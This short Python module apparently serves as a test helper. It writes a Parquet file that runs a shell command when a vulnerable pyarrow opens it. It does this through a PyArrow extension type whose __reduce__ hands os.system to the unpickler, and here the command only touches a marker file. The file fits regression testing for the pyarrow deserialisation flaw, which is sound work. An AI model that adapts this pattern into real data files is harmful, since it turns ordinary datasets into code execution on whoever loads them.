"""A Parquet file that runs a command in whoever opens it with a vulnerable pyarrow."""

from __future__ import annotations

import os
import shlex
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq


def write(file: Path, marker: Path, *, nested: bool = False, serialized: bytes = b"") -> Path:
    """Writes 40 rows of `x`, `code` and `y`, where `code` has a type that is unpickled.

    Args:
        file: The file to write.
        marker: What the pickle makes, if it is run.
        nested: Whether `code` is a structure that has the type within.
        serialized: In place of the pickle.
    """

    class Hostile(pa.PyExtensionType):
        def __init__(self) -> None:
            super().__init__(pa.int64())

        def __reduce__(self) -> tuple[object, ...]:
            return os.system, (f"touch {shlex.quote(str(marker))}",)

        def __arrow_ext_serialize__(self) -> bytes:
            return serialized or super().__arrow_ext_serialize__()

    code = pa.ExtensionArray.from_storage(Hostile(), pa.array(range(40), pa.int64()))
    if nested:
        code = pa.StructArray.from_arrays([code], ["within"])
    columns = {"x": pa.array(map(float, range(40))), "code": code, "y": pa.array([0, 1] * 20)}
    pq.write_table(pa.table(columns), file)
    return file
